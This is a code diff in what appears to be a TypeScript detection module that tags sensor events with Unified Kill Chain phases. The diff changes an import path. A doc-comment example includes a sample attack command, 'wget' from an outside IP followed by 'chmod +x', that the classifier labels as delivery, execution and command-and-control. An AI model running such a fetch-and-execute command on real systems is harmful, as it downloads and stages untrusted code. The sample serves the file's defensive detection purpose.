@@ -1,4 +1,4 @@
-import type { SensorEvent } from "../sensor/mod.ts";
+import type { SensorEvent } from "../sensor/sensor_event.ts";
 
 /** Unified Kill Chain phases an event can show (snake_case of the UKC's names). */
 export const UKC_PHASES = [
@@ -104,7 +104,7 @@ const DEFAULT_PORT: Record<string, string> = { http: "80", https: "443", ftp: "2
  *
  * @example
  * ```ts
- * import type { SensorEvent } from "../sensor/mod.ts";
+ * import type { SensorEvent } from "../sensor/sensor_event.ts";
  * declare const e: SensorEvent; // kind "command", command "wget http://198.51.100.7/x; chmod +x x"
  * eventFeatures(e); // { ukc_phases: ["delivery", "execution"], c2: ["198.51.100.7:80"] }
  * ```
